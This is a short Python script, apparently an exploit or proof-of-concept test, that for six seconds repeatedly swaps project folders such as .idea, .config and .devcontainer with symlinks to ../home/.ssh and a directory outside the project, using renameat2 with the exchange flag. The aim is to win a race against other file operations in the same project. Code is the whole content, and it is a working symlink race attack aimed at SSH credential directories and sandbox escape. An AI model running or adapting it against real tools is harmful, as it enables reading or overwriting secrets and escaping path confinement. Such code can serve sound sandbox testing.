"""Puts folders and links to the outside in each other's place, while other calls begin in the same project."""
import ctypes, os, time

libc = ctypes.CDLL(None, use_errno=True)
EXCHANGE = 2
names = {".idea": "../home/.ssh", ".zed": "../home/.ssh", ".config": "../outside", ".devcontainer": "../outside"}
end = time.time() + 6
while time.time() < end:
    for name, target in names.items():
        link = name + "-link"
        try:
            os.path.lexists(name) or os.mkdir(name)
            os.path.lexists(link) or os.symlink(target, link)
        except OSError:
            pass
        libc.renameat2(-100, name.encode(), -100, link.encode(), EXCHANGE)
    time.sleep(0.002)
print("DONE")
